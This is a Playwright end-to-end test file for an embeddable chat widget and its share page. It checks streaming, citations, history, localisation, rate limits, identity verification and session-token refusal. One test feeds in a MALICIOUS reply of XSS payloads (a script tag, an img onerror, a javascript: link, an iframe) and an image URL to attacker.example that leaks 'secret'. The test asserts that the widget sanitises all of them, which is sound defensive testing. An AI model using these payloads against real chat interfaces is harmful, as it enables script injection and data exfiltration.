"""The widget and the share page in headless Chromium, on the live platform with a worker and the
fake model behind them.

The host page comes from a site of its own (tests.widget.conftest.HostSite: another port, so
another origin than the platform), with the snippet the Embed & share page gives. The launcher
lives in a closed shadow root, which no selector reaches: tests that read its attributes add
`OPEN_SHADOW` first (the same root, made inspectable); the others use it as a visitor does, with
the mouse or the keyboard. Screenshots go to test-artifacts/widget/.
"""

from __future__ import annotations

import json
import re
import time
from unittest import mock

import pytest
from playwright.sync_api import Frame, Page, expect

from bots.models import Bot, Channel, Conversation, Message, MessageState
from tests.sse import CUTTING_FETCH_JS
from tests.widget.conftest import host_page, public_id

pytestmark = pytest.mark.django_db(transaction=True)

# Test-only: the widget's closed shadow root made open, so its launcher can be inspected.
OPEN_SHADOW = """(() => {
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) { return attach.call(this, { ...init, mode: "open" }); };
})();"""

# The host page's own record of the widget's events, queued before the script has loaded.
RECORDER = """<script>
  window.widgetEvents = [];
  window.Switchboard = window.Switchboard || { q: [] };
  ["ready", "open", "close", "message", "error"].forEach(function (name) {
    Switchboard.q.push(["on", name, function (detail) { widgetEvents.push([name, detail || null]); }]);
  });
  window.addEventListener("load", function () {
    var host = document.querySelector("[data-switchboard-widget]");
    var root = host && host.shadowRoot;
    window.atLoad = { mounted: !!host, frames: root ? root.querySelectorAll("iframe").length : null,
                      launcher: root ? !!root.querySelector("button") : null };
  });
</script>"""

HANDBOOK = """# Handbook

## Warranty

The warranty covers manufacturing defects for two years.

## Returns

Unused products can be returned within thirty days.
"""

LAUNCHER = "button.launcher"


def chat_frame(page: Page, path: str = "/widget/frame/") -> Frame:
    """The widget's frame once the page has created it."""
    for _ in range(400):
        for frame in page.frames:
            if path in frame.url:
                return frame
        page.wait_for_timeout(50)
    raise AssertionError(f"no frame at {path} in {[frame.url for frame in page.frames]}")


def events(page: Page, name: str | None = None) -> list:
    recorded = page.evaluate("window.widgetEvents")
    return [detail for event, detail in recorded if event == name] if name else [event for event, _ in recorded]


def wait_for_event(page: Page, name: str, count: int = 1) -> None:
    page.wait_for_function(
        "([name, count]) => window.widgetEvents.filter(e => e[0] === name).length >= count", arg=[name, count]
    )


def answers(frame: Frame):
    return frame.locator(".msg.assistant:not(.opening)")


def send(frame: Frame, text: str) -> None:
    frame.locator("textarea#message").fill(text)
    frame.locator("textarea#message").press("Enter")


def finished(frame: Frame, count: int) -> None:
    """Wait for `count` answers to have ended (not busy any more)."""
    expect(frame.locator('.msg.assistant:not(.opening)[aria-busy="false"]')).to_have_count(count)


def visit(page: Page, host_site, live_server_url: str, bot, *, path: str = "/", **page_options) -> Frame:
    """Open the host page with the widget and wait until its chat is ready."""
    page.goto(host_site.page(path, host_page(live_server_url, public_id(bot), before=RECORDER, **page_options)))
    wait_for_event(page, "ready")
    return chat_frame(page)


def knowledge_base(workspace):
    from knowledge import services as knowledge_services
    from tests.knowledge.conftest import upload_file, wait_for_document

    base = knowledge_services.knowledge_base_create(
        workspace=workspace, name="Handbook", chunk_size=64, chunk_overlap=0
    )
    document, _ = knowledge_services.document_create_from_upload(
        knowledge_base=base, file=upload_file("handbook.md", HANDBOOK.encode())
    )
    assert wait_for_document(document.pk).status == "ready"
    return base


# -- chatting -------------------------------------------------------------------------------------------


def test_the_widget_streams_an_answer_with_a_source_and_keeps_the_conversation(
    page, live_server_url, host_site, widget_bot, workspace, fake_llm, celery_worker, artifacts
):
    from tests.fake_llm import TextReply

    base = knowledge_base(workspace)
    bot = widget_bot(
        opening_message="Welcome to **the hotel**, {{guest}}.",
        starter_questions=["What about the warranty?"],
        variables=[{"name": "guest", "default": "friend"}],
        knowledge={"knowledge_base_ids": [base.pk], "top_k": 3},
    )
    page.set_viewport_size({"width": 1280, "height": 800})
    page.add_init_script(OPEN_SHADOW)
    frame = visit(page, host_site, live_server_url, bot)

    # The launcher was on screen when the page's load event fired; the chat frame came after it.
    assert page.evaluate("window.atLoad") == {"mounted": True, "frames": 0, "launcher": True}
    launcher = page.locator(LAUNCHER)
    expect(launcher).to_have_attribute("aria-expanded", "false")
    expect(launcher).to_have_attribute("aria-label", "Open chat")
    # The host page's styles stop at the shadow root.
    assert launcher.evaluate("b => getComputedStyle(b).borderStyle") != "dotted"

    launcher.click()
    expect(launcher).to_have_attribute("aria-expanded", "true")
    expect(launcher).to_have_attribute("aria-label", "Close chat")
    expect(frame.locator(".msg.opening")).to_have_text("Welcome to the hotel, friend.")
    expect(frame.locator("textarea#message")).to_be_focused()
    assert events(page)[:2] == ["ready", "open"]

    fake_llm.script(
        TextReply(chunks=["Defects are covered ", "for two years [1]. ", "**Ask** us anytime."], chunk_delay=0.3)
    )
    frame.locator("button.starter").click()
    # Streamed: the first words show while the answer is still being written.
    frame.wait_for_function("""() => {
      const flow = document.querySelector(".msg.assistant:not(.opening) .flow");
      return flow && flow.textContent.startsWith("Defects are covered") && !flow.textContent.includes("Ask")
        && !document.querySelector(".feedback");
    }""")
    finished(frame, 1)
    answer = answers(frame).first
    assert answer.locator(".flow").text_content() == "Defects are covered for two years [1]. Ask us anytime."
    assert answer.locator(".flow strong").text_content() == "Ask"
    assert frame.locator("button.starter").is_hidden()
    page.screenshot(path=str(artifacts / "desktop-light.png"))

    # The source marker opens the cited passage in a dialog; closing it goes back to the marker.
    marker = answer.locator("button.cite")
    expect(marker).to_have_attribute("aria-label", "Source 1: handbook.md")
    marker.click()
    dialog = frame.locator("dialog[data-role=passage]")
    expect(dialog).to_be_visible()
    expect(dialog.locator("h2")).to_have_text("handbook.md")
    expect(dialog.locator("[data-role=passage-text]")).to_contain_text(
        "The warranty covers manufacturing defects for two years."
    )
    frame.locator("[data-action=close-dialog]").press("Escape")
    expect(dialog).to_be_hidden()
    expect(marker).to_be_focused()
    assert events(page, "close") == []  # Escape closed the dialog, not the widget
    # The list of sources opens the same passage.
    answer.locator("button.source").first.click()
    expect(dialog.locator("[data-role=passage-text]")).to_contain_text("manufacturing defects")
    frame.locator("[data-action=close-dialog]").click()

    conversation = Conversation.objects.get(bot=bot)
    assert conversation.channel == Channel.WIDGET and conversation.visitor_id
    message = Message.objects.get(conversation=conversation, role="assistant")
    wait_for_event(page, "message", 2)
    sent, answered = events(page, "message")
    assert sent["role"] == "user" and sent["content"] == "What about the warranty?"
    assert answered == {
        "id": message.pk,
        "role": "assistant",
        "content": "Defects are covered for two years [1]. **Ask** us anytime.",
        "state": "completed",
        "conversation_id": conversation.pk,
    }

    # A reload shows the conversation again, with its source, and it goes on from there.
    page.reload()
    wait_for_event(page, "ready")
    frame = chat_frame(page)
    page.locator(LAUNCHER).click()
    finished(frame, 1)
    expect(frame.locator(".msg.user")).to_have_text(["You:What about the warranty?"])
    assert answers(frame).first.locator(".flow").text_content() == message.content.replace("**", "")
    expect(answers(frame).first.locator("button.cite")).to_have_count(1)
    assert frame.locator("button.starter").is_hidden()
    fake_llm.script(TextReply("Thirty days for returns."))
    send(frame, "And returns?")
    finished(frame, 2)
    assert Conversation.objects.filter(bot=bot).count() == 1
    assert conversation.messages.count() == 4

    # A new conversation from the header starts over: greeting and starters again, nothing stored lost.
    frame.locator("[data-action=new-conversation]").click()
    expect(frame.locator(".msg")).to_have_count(1)
    expect(frame.locator("button.starter")).to_be_visible()
    page.reload()
    wait_for_event(page, "ready")
    expect(chat_frame(page).locator(".msg")).to_have_count(1)  # the new, empty conversation is remembered

    # The close button in the frame closes the window and gives the focus back to the launcher.
    page.locator(LAUNCHER).click()
    chat_frame(page).locator("[data-action=close]").click()
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-expanded", "false")
    expect(page.locator(LAUNCHER)).to_be_focused()


def test_a_phone_visitor_finds_an_earlier_conversation_in_the_list_and_goes_on_there(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker, artifacts
):
    from tests.fake_llm import TextReply

    bot = widget_bot(opening_message="你好！")
    page.set_viewport_size({"width": 360, "height": 740})
    page.add_init_script(OPEN_SHADOW)
    frame = visit(page, host_site, live_server_url, bot, lang="zh-CN")
    page.locator(LAUNCHER).click()
    history = frame.locator("[data-action=history]")
    expect(history).to_have_attribute("aria-label", "历史对话")

    # No conversation yet: the list says so, and going back shows the chat as it was.
    history.click()
    expect(frame.locator("[data-role=history]")).to_contain_text("还没有对话")
    expect(frame.locator("textarea#message")).to_be_hidden()
    frame.locator("[data-action=history-back]").click()
    expect(frame.locator("textarea#message")).to_be_visible()
    expect(history).to_be_focused()

    fake_llm.script(TextReply("退款在 30 天内处理。"))
    send(frame, "退款要多久？")
    finished(frame, 1)
    frame.locator("[data-action=new-conversation]").click()
    fake_llm.script(TextReply("Check-in is at 3 pm."))
    send(frame, "When is check-in?")
    finished(frame, 1)
    first, second = Conversation.objects.filter(bot=bot).order_by("created_at")

    # Both are listed, newest first, with their titles; the one open now is marked.
    history.click()
    items = frame.locator("button.history-item")
    expect(items).to_have_count(2)
    expect(items.nth(0).locator(".history-title")).to_have_text("When is check-in?")
    expect(items.nth(0)).to_have_attribute("aria-current", "true")
    expect(items.nth(0)).to_contain_text("当前对话")
    expect(items.nth(1).locator(".history-title")).to_have_text("退款要多久？")
    assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")  # nothing wider than the phone
    page.screenshot(path=str(artifacts / "phone-history.png"))

    # Choosing the earlier one shows its messages; the next message goes on in it.
    items.nth(1).click()
    expect(frame.locator(".msg.user")).to_have_text(["你：退款要多久？"])
    expect(answers(frame).first.locator(".flow")).to_have_text("退款在 30 天内处理。")
    fake_llm.script(TextReply("周末也处理。"))
    send(frame, "周末呢？")
    finished(frame, 2)
    assert first.messages.count() == 4 and second.messages.count() == 2
    # It is remembered as the open one: a reload shows it again.
    page.reload()
    wait_for_event(page, "ready")
    frame = chat_frame(page)
    page.locator(LAUNCHER).click()
    expect(frame.locator(".msg.user")).to_have_text(["你：退款要多久？", "你：周末呢？"])
    # Escape closes the list before it closes the window.
    frame.locator("[data-action=history]").click()
    expect(frame.locator("button.history-item")).to_have_count(2)
    frame.locator("button.history-item").first.press("Escape")
    expect(frame.locator("[data-role=history]")).to_be_hidden()
    assert events(page, "close") == []


def test_an_unfinished_answer_is_followed_again_after_a_reload_without_losing_or_repeating_text(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from tests.fake_llm import TextReply

    bot = widget_bot()
    chunks = [f"part{i} " for i in range(24)]
    fake_llm.script(TextReply(chunks=chunks, chunk_delay=0.1))
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    send(frame, "Tell me a long story")
    frame.wait_for_function(
        "() => (document.querySelector('.msg.assistant:not(.opening) .flow') || {}).textContent?.includes('part3')"
    )
    page.reload()  # mid-answer
    wait_for_event(page, "ready")
    frame = chat_frame(page)
    finished(frame, 1)
    assert answers(frame).first.locator(".flow").text_content() == "".join(chunks)
    message = Message.objects.get(conversation__bot=bot, role="assistant")
    assert message.state == MessageState.COMPLETED and message.content == "".join(chunks)


def test_a_consequential_action_waits_for_the_visitor_to_allow_it(
    page, live_server_url, host_site, widget_bot, fake_llm, target, operations, celery_worker
):
    from tests.fake_llm import TextReply, ToolCallReply
    from tests.fake_llm import ToolCall as CallOf

    bot = widget_bot(actions={"operation_ids": [operations["createOrder"].pk]})
    fake_llm.script(
        ToolCallReply([CallOf("createOrder", {"body": {"item": "tea"}}, id="call_o")]), TextReply("Ordered your tea.")
    )
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    send(frame, "Order tea")
    tool = frame.locator(".tool.awaiting")
    expect(tool.locator(".tool-title")).to_have_text("The assistant wants to use createOrder. Do you allow it?")
    expect(tool.locator("pre")).to_contain_text('"item": "tea"', use_inner_text=False)
    assert target.calls_to("/orders") == []
    tool.locator("[data-action=approve]").click()
    finished(frame, 1)
    assert answers(frame).first.locator(".flow").text_content().endswith("Ordered your tea.")
    expect(frame.locator(".tool.ok .tool-title")).to_have_text("Used createOrder")
    assert [json.loads(call.body) for call in target.calls_to("/orders")] == [{"item": "tea"}]


def test_feedback_with_a_comment_is_stored_on_the_answer(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from tests.fake_llm import TextReply

    bot = widget_bot()
    fake_llm.script(TextReply("The pool opens at **seven**."))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=host_site.origin)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_server_url)
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    send(frame, "When does the pool open?")
    finished(frame, 1)
    # The answer is copied as it was written (its Markdown), and the button says so.
    copy = frame.locator("button.thumb.copy")
    expect(copy).to_have_attribute("aria-label", "Copy answer")
    copy.click()
    expect(frame.locator(".copied")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "The pool opens at **seven**."
    good = frame.locator("button.thumb.good")
    expect(good).to_have_attribute("aria-label", "Good answer")
    good.click()
    expect(good).to_have_attribute("aria-pressed", "true")
    comment = frame.get_by_label("Tell us more (optional)")
    expect(comment).to_be_focused()
    comment.fill("Quick and right.")
    frame.get_by_role("button", name="Send feedback").click()
    expect(frame.locator(".thanks")).to_have_text("Thanks for your feedback.")
    message = Message.objects.get(conversation__bot=bot, role="assistant")
    assert (message.rating, message.feedback) == (1, "Quick and right.")
    # After a reload the rating is still shown as given.
    page.reload()
    wait_for_event(page, "ready")
    expect(chat_frame(page).locator("button.thumb.good")).to_have_attribute("aria-pressed", "true")


# -- languages --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["html-lang", "data-lang"])
def test_the_widget_speaks_chinese_and_switches_at_runtime(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker, how
):
    from tests.fake_llm import TextReply

    bot = widget_bot(opening_message="你好！")
    page.add_init_script(OPEN_SHADOW)
    options = {"lang": "zh-CN"} if how == "html-lang" else {"attributes": ' data-lang="zh"'}
    frame = visit(page, host_site, live_server_url, bot, **options)
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-label", "打开聊天")
    page.locator(LAUNCHER).click()
    expect(frame.locator("textarea#message")).to_have_attribute("placeholder", "输入消息…")
    expect(frame.get_by_label("消息", exact=True)).to_be_visible()
    expect(frame.locator("[data-action=new-conversation]")).to_have_attribute("aria-label", "新对话")
    assert frame.evaluate("document.documentElement.lang") == "zh-CN"
    fake_llm.script(TextReply("好的。"))
    send(frame, "你好")
    finished(frame, 1)
    expect(frame.locator("button.thumb.good")).to_have_attribute("aria-label", "回答有帮助")

    # The page switches the language: everything already shown follows.
    page.evaluate("Switchboard.setOptions({lang: 'en'})")
    expect(frame.locator("textarea#message")).to_have_attribute("placeholder", "Write a message…")
    expect(frame.locator("button.thumb.good")).to_have_attribute("aria-label", "Good answer")
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-label", "Close chat")


# -- what the widget refuses --------------------------------------------------------------------------------


def test_a_site_that_is_not_allowed_gets_a_clear_message_and_nothing_else(
    page, live_server_url, host_site, widget_bot, fake_llm
):
    bot = widget_bot(origins=["https://shop.example"])
    warnings: list[str] = []
    page.on("console", lambda message: warnings.append(message.text) if message.type == "warning" else None)
    page.add_init_script(OPEN_SHADOW)
    page.goto(host_site.page("/", host_page(live_server_url, public_id(bot), before=RECORDER)))
    wait_for_event(page, "error")
    (error,) = events(page, "error")
    assert error["code"] == "origin_not_allowed" and "is not allowed to show this chat" in error["message"]
    assert any("Switchboard widget:" in text and "origin_not_allowed" in text for text in warnings), warnings
    launcher = page.locator(LAUNCHER)
    expect(launcher).to_have_class(re.compile(r"\berror\b"))
    expect(launcher).to_have_attribute("aria-label", "Chat unavailable")
    launcher.click()
    frame = chat_frame(page)
    expect(frame.locator("[role=alert]")).to_contain_text("is not allowed to show this chat")
    assert frame.locator("textarea, input, button").count() == 0  # a message, nothing to use
    assert frame.evaluate("!window.SwitchboardChat")  # no chat code ran
    assert page.locator("#heading").text_content() == "A customer's page"  # the host page goes on
    assert not Conversation.objects.exists()


def test_a_missing_bot_id_is_reported_and_the_page_is_unaffected(page, live_server_url, host_site):
    warnings: list[str] = []
    page.on("console", lambda message: warnings.append(message.text) if message.type == "warning" else None)
    page.add_init_script(OPEN_SHADOW)
    page.goto(host_site.page("/", host_page(live_server_url, None, before=RECORDER)))
    expect(page.locator(LAUNCHER)).to_have_class(re.compile(r"\berror\b"))
    assert any("no data-bot attribute" in text for text in warnings), warnings
    # The API answers without throwing into the page, and opens nothing.
    page.evaluate("Switchboard.open(); Switchboard.toggle(); Switchboard.identify(null); Switchboard.setInputs(5)")
    page.locator(LAUNCHER).click()
    assert [frame.url for frame in page.frames] == [page.url]
    expect(page.locator(LAUNCHER)).to_have_attribute("aria-expanded", "false")


def test_a_forged_or_expired_session_token_is_refused(page, live_server_url, host_site, widget_bot, fake_llm):
    from django.core import signing

    from bots.widget import access

    bot = widget_bot()
    frame = visit(page, host_site, live_server_url, bot)
    session = access.Session(
        public_id=public_id(bot), mode="widget", host=host_site.origin, visitor_id="v_x", user_id=None, user_name=""
    )
    hours_ago = int(time.time()) - 3 * 3600
    with mock.patch.object(signing.TimestampSigner, "timestamp", lambda self: signing.b62_encode(hours_ago)):
        expired = access.session_issue(session)
    fresh = access.session_issue(session)
    tampered = fresh[:-3] + ("AAA" if not fresh.endswith("AAA") else "BBB")
    answers_ = frame.evaluate(
        """async tokens => {
      const out = [];
      for (const token of tokens) {
        const response = await fetch("/widget/v1/conversations", { headers: { Authorization: "Bearer " + token } });
        out.push([response.status, (await response.json()).error?.code ?? null]);
      }
      return out;
    }""",
        ["forged", tampered, expired, fresh],
    )
    assert answers_ == [[401, "session_invalid"], [401, "session_invalid"], [401, "session_expired"], [200, None]]


MALICIOUS = (
    "<script>window.parent.pwned = 1; window.pwned = 1</script> "
    '<img src=x onerror="window.pwned = 1"> '
    "[click me](javascript:window.pwned=1) "
    "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
    "rkJggg==) "
    "![track](https://attacker.example/x.png?leak=secret) "
    '<iframe src="https://attacker.example/frame"></iframe> '
    "[ok](https://example.org/docs)"
)


def test_a_malicious_reply_executes_nothing_and_loads_nothing(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from tests.fake_llm import TextReply

    bot = widget_bot()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    fake_llm.script(TextReply(MALICIOUS))
    send(frame, "show me")
    finished(frame, 1)
    flow = answers(frame).first.locator(".flow")
    text = flow.text_content()
    assert text.startswith("<script>window.parent.pwned = 1; window.pwned = 1</script> <img src=x onerror=")
    assert "[click me](javascript:window.pwned=1)" in text and "pixel" in text and "track" in text
    assert flow.locator("script, img, iframe").count() == 0
    links = flow.locator("a")
    expect(links).to_have_count(1)
    assert links.get_attribute("href") == "https://example.org/docs"
    assert links.get_attribute("rel").split()[:2] == ["noopener", "noreferrer"]
    assert links.get_attribute("target") == "_blank"
    assert frame.evaluate("window.pwned === undefined") and page.evaluate("window.pwned === undefined")
    assert not [url for url in requests if "attacker.example" in url or url.startswith("data:")], requests
    # The same after a reload, from the stored message.
    page.reload()
    wait_for_event(page, "ready")
    frame = chat_frame(page)
    finished(frame, 1)
    assert answers(frame).first.locator(".flow script, .flow img, .flow iframe").count() == 0
    assert not [url for url in requests if "attacker.example" in url], requests


def test_a_rate_limit_is_a_friendly_message_and_the_text_is_kept(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from bots.widget.services import widget_update
    from tests.fake_llm import TextReply

    bot = widget_bot()
    widget_update(bot=bot, visitor_messages_per_minute=1)
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    fake_llm.script(TextReply("First answer."))
    send(frame, "one")
    finished(frame, 1)
    send(frame, "two")
    notice = frame.locator("[data-role=notice]")
    expect(notice).to_be_visible()
    expect(notice.locator("[data-role=notice-text]")).to_have_text(
        re.compile(r"^You are sending messages too quickly\. Please wait \d+ s and try again\.$")
    )
    expect(frame.locator("textarea#message")).to_have_value("two")
    expect(frame.locator(".msg.user")).to_have_count(1)  # the refused message is not shown as sent
    assert Message.objects.filter(conversation__bot=bot, role="user").count() == 1


def test_a_daily_cap_is_told_in_the_visitors_language(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker
):
    from bots.widget.services import widget_update

    bot = widget_bot()
    widget_update(bot=bot, daily_message_cap=1)
    from tests.fake_llm import TextReply

    frame = visit(page, host_site, live_server_url, bot, lang="zh-CN")
    page.evaluate("Switchboard.open()")
    fake_llm.script(TextReply("好。"))
    send(frame, "一")
    finished(frame, 1)
    send(frame, "二")
    expect(frame.locator("[data-role=notice]")).to_contain_text("该助手今天的消息数量已达上限，请明天再来。")


# -- identity ---------------------------------------------------------------------------------------------


def test_a_verified_user_and_a_bad_hash(page, live_server_url, host_site, widget_bot, fake_llm, celery_worker):
    from bots.widget import access
    from bots.widget.services import widget_rotate_identity_secret
    from tests.fake_llm import TextReply

    bot = widget_bot()
    secret = widget_rotate_identity_secret(bot=bot)
    good = access.identity_hash(secret, "user-42")
    identify = (
        "<script>(window.Switchboard = window.Switchboard || {q: []}).q.push("
        f'["identify", {{user_id: "user-42", user_hash: "{good}", name: "Ada"}}]);</script>'
    )
    page.goto(host_site.page("/", host_page(live_server_url, public_id(bot), before=RECORDER + identify)))
    wait_for_event(page, "ready")
    frame = chat_frame(page)
    page.evaluate("Switchboard.open()")
    fake_llm.script(TextReply("Hello Ada."), TextReply("Hello guest."))
    send(frame, "hi")
    finished(frame, 1)
    conversation = Conversation.objects.get(bot=bot)
    assert conversation.end_user == "user-42" and conversation.end_user_verified

    # A hash that does not match: a notice, and the chat goes on as a guest.
    page.evaluate("Switchboard.identify({user_id: 'user-42', user_hash: '0'.repeat(64)})")
    frame.locator("[data-action=new-conversation]").click()
    expect(frame.locator("[data-role=notice-text]")).to_have_text(
        "We could not confirm who you are, so you are chatting as a guest."
    )
    send(frame, "hi again")
    finished(frame, 1)
    guest = Conversation.objects.exclude(pk=conversation.pk).get(bot=bot)
    assert not guest.end_user_verified and guest.end_user.startswith("visitor:")
    assert "identity_invalid" in [detail["code"] for detail in events(page, "error")]


# -- keyboard, phone, screenshots -----------------------------------------------------------------------------


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_a_phone_visitor_uses_the_keyboard_alone(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker, artifacts, dark
):
    from tests.fake_llm import TextReply

    bot = widget_bot(opening_message="Hi! How can I help?")
    page.set_viewport_size({"width": 360, "height": 740})
    frame = visit(page, host_site, live_server_url, bot, dark=dark)
    page.screenshot(path=str(artifacts / f"phone-{'dark' if dark else 'light'}-closed.png"))
    host_is_focused = "document.activeElement === document.querySelector('[data-switchboard-widget]')"
    page.locator("#search").focus()
    page.keyboard.press("Tab")  # from the page's last field to the launcher
    assert page.evaluate(host_is_focused)
    page.keyboard.press("Enter")
    wait_for_event(page, "open")
    # The window fills the phone's screen and the focus is in the message field.
    assert frame.evaluate("[innerWidth, innerHeight]") == [360, 740]
    assert page.evaluate("document.elementFromPoint(180, 300).closest('[data-switchboard-widget]') !== null")
    frame.wait_for_function("() => document.hasFocus() && document.activeElement.id === 'message'")
    fake_llm.script(TextReply("Sure. **Check-in** is at 3 pm.\n\n| Day | Time |\n|---|---|\n| Mon | 3 pm |"))
    page.keyboard.type("When is check-in?")
    page.keyboard.press("Shift+Enter")  # a new line, not sent
    page.keyboard.type("Thanks")
    assert frame.locator("textarea#message").input_value() == "When is check-in?\nThanks"
    page.keyboard.press("Enter")
    finished(frame, 1)
    expect(frame.locator(".msg.user .plain")).to_have_text("When is check-in?\nThanks")
    assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")  # nothing wider than the phone
    page.screenshot(path=str(artifacts / f"phone-{'dark' if dark else 'light'}.png"))
    # Tab reaches the answer's controls with a visible focus ring.
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    focused = frame.evaluate(
        "[document.activeElement.getAttribute('aria-label'), getComputedStyle(document.activeElement).outlineStyle]"
    )
    assert focused[0] in ("Good answer", "Bad answer") and focused[1] != "none", focused
    page.keyboard.press("Escape")
    wait_for_event(page, "close")
    assert page.evaluate(host_is_focused)
    # Hidden again: the middle of the screen is the page's own.
    assert not page.evaluate("document.elementFromPoint(180, 300).closest('[data-switchboard-widget]')")


def test_the_desktop_window_on_a_dark_page(
    page, live_server_url, host_site, widget_bot, fake_llm, celery_worker, artifacts
):
    from tests.fake_llm import TextReply

    bot = widget_bot(opening_message="Hello! Ask me anything about your stay.", starter_questions=["Breakfast?"])
    page.set_viewport_size({"width": 1280, "height": 800})
    frame = visit(
        page, host_site, live_server_url, bot, dark=True, attributes=' data-accent="#0f766e" data-position="left"'
    )
    page.evaluate("Switchboard.open()")
    assert frame.evaluate("[innerWidth, innerHeight]") == [380, 600]
    # Anchored at the bottom left corner, as data-position asked.
    at = "([x, y]) => !!document.elementFromPoint(x, y).closest('[data-switchboard-widget]')"
    assert page.evaluate(at, [200, 500]) and not page.evaluate(at, [1080, 500])
    fake_llm.script(TextReply("Breakfast is served **7–10** in the garden room."))
    frame.locator("button.starter").click()
    finished(frame, 1)
    assert frame.evaluate("getComputedStyle(document.querySelector('.header')).backgroundColor") == "rgb(15, 118, 110)"
    page.screenshot(path=str(artifacts / "desktop-dark.png"))


# -- the share page --------------------------------------------------------------------------------------------


def test_the_share_page_chats_keeps_the_conversation_and_closes_when_switched_off(
    page, widget_bot, fake_llm, celery_worker, artifacts
):
    from bots.widget.services import widget_update
    from tests.fake_llm import TextReply

    bot = widget_bot(name="Concierge", opening_message="Good evening. How may I help?")
    Bot.objects.filter(pk=bot.pk).update(avatar="🛎")
    widget_update(bot=bot, share_enabled=True)
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"/s/{public_id(bot)}")
    expect(page.locator("h1")).to_have_text("Concierge")
    expect(page.locator("[data-role=avatar]")).to_have_text("🛎")
    expect(page.locator(".msg.opening")).to_have_text("Good evening. How may I help?")
    assert page.locator("[data-action=close]").count() == 0
    fake_llm.script(TextReply(chunks=["A table ", "for two ", "is booked."], chunk_delay=0.05))
    send(page.main_frame, "A table for two, please")
    finished(page.main_frame, 1)
    assert answers(page.main_frame).first.locator(".flow").text_content() == "A table for two is booked."
    conversation = Conversation.objects.get(bot=bot)
    assert conversation.channel == Channel.SHARE
    page.screenshot(path=str(artifacts / "share-desktop.png"))

    page.reload()
    finished(page.main_frame, 1)
    expect(page.locator(".msg.user")).to_have_text(["You:A table for two, please"])

    widget_update(bot=bot, share_enabled=False)
    page.reload()
    expect(page.locator("[role=alert]")).to_contain_text("public link is switched off")
    assert page.locator("textarea").count() == 0


def test_the_share_page_on_a_phone_in_chinese(page, widget_bot, fake_llm, celery_worker, artifacts):
    from bots.widget.services import widget_update
    from tests.fake_llm import TextReply

    bot = widget_bot(name="前台", opening_message="晚上好！")
    widget_update(bot=bot, share_enabled=True)
    page.set_viewport_size({"width": 360, "height": 740})
    page.goto(f"/s/{public_id(bot)}?lang=zh")
    expect(page.locator("textarea#message")).to_have_attribute("placeholder", "输入消息…")
    fake_llm.script(TextReply("好的。"))
    send(page.main_frame, "订一张桌子")
    finished(page.main_frame, 1)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.screenshot(path=str(artifacts / "share-phone.png"))


# -- the Embed & share page -------------------------------------------------------------------------------------


def test_the_embed_page_keeps_the_snippet_and_the_preview_in_step_with_the_options(owner_page, widget_bot):
    page = owner_page
    bot = widget_bot()
    page.goto(f"/bots/{bot.pk}/embed/")
    snippet = page.locator("pre[data-role=snippet]")
    pid = public_id(bot)
    expect(snippet).to_have_text(
        re.compile(rf'^<script src="http://127\.0\.0\.1:\d+/widget\.js" data-bot="{pid}" async></script>$')
    )
    preview = chat_frame(page)
    expect(preview.locator("h1")).to_have_text("Hotel helper")

    page.locator("[data-widget-option=title]").fill('Desk "24/7"')
    page.locator("[data-widget-option=starters]").fill("Late checkout?|Parking?")
    page.locator("[data-widget-option=lang]").select_option("zh")
    page.locator("[data-widget-option=open]").check()
    expect(snippet).to_contain_text(
        'data-bot="' + pid + '" data-title="Desk &quot;24/7&quot;" data-starters=\'["Late checkout?","Parking?"]\' '
        'data-lang="zh" data-open async></script>'
    )
    preview_frame = page.frame_locator("[data-role=widget-preview] iframe")
    expect(preview_frame.locator("h1")).to_have_text('Desk "24/7"')
    expect(preview_frame.locator("button.starter")).to_have_text(["Late checkout?", "Parking?"])
    expect(preview_frame.locator("textarea#message")).to_have_attribute("placeholder", "输入消息…")

    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator("[data-action=copy-snippet]").click()
    expect(page.locator("[data-action=copy-snippet]")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == snippet.text_content()


# -- stop and a dropped connection ---------------------------------------------------------------------------


def test_stop_keeps_what_was_said(page, live_server_url, host_site, widget_bot, fake_llm, celery_worker):
    from tests.fake_llm import TextReply

    bot = widget_bot()
    fake_llm.script(TextReply(chunks=[f"word{i} " for i in range(80)], chunk_delay=0.05))
    frame = visit(page, host_site, live_server_url, bot)
    page.evaluate("Switchboard.open()")
    send(frame, "Tell me everything")
    expect(answers(frame).first.locator(".flow")).to_contain_text("word2")
    assert frame.locator("[data-action=send]").is_hidden()
    frame.locator("[data-action=stop]").click()
    finished(frame, 1)
    expect(answers(frame).first.locator(".status")).to_have_text("Stopped.")
    expect(frame.locator("[data-action=send]")).to_be_visible()
